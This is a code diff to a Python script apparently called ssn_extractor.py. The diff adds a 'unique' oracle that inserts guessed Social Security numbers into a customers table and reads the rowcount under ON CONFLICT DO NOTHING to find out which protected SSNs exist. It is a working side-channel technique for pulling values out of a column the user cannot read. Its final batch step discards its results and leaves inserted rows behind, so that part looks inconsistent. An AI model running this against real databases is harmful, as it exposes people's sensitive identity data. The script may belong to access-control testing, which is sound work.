@@ -5,9 +5,9 @@ connection, and prints one JSON line:
  "statements": n, "refused": n, "errors": {sqlstate: n}}
 
 Usage: python3 ssn_extractor.py URL CLASS [ARG]
-CLASS: error | conditional | timing | enumeration | across | join
-- across: ARG is a JSON list of candidate SSNs tried one per statement, in
-  order (a parameter each).
+CLASS: error | conditional | timing | enumeration | across | join | unique
+- across, unique: ARG is a JSON list of candidate SSNs tried one per
+  statement, in order (a parameter each).
 Every statement is bounded: at most a few hundred per class.
 """
 
@@ -203,7 +203,39 @@ def join_oracle():
     return found
 
 
+def unique_oracle():
+    """Writes each guess into the protected column: with a unique
+    constraint on it, ON CONFLICT DO NOTHING inserts no row when the guess is
+    already there (and a plain INSERT fails with 23505)."""
+    global conn
+    for i, c in enumerate(json.loads(ARG)):
+        stats["statements"] += 1
+        try:
+            if conn.closed or conn.broken:
+                conn = psycopg.connect(URL, autocommit=True)
+            cur = conn.execute(
+                "INSERT INTO customers (id, ssn) VALUES (%s, %s) ON CONFLICT DO NOTHING",
+                (100000 + i, c))
+            inserted = cur.rowcount
+        except psycopg.Error as e:
+            state = e.sqlstate or "?"
+            stats["errors"][state] = stats["errors"].get(state, 0) + 1
+            if state == "42501":
+                stats["refused"] += 1
+            continue
+        if inserted == 0:
+            return c
+        run("DELETE FROM customers WHERE id = %s", (100000 + i,))
+    # A batch from a query: one statement, every guess.
+    rows, _, _ = run(
+        "INSERT INTO customers (id, ssn) SELECT 200000 + n, g FROM "
+        "unnest(%s::text[]) WITH ORDINALITY AS t(g, n) ON CONFLICT DO NOTHING RETURNING id",
+        (json.loads(ARG),))
+    return "???-??-????"
+
+
 ORACLES = {
+    "unique": unique_oracle,
     "error": error_oracle,
     "conditional": conditional_oracle,
     "timing": timing_oracle,
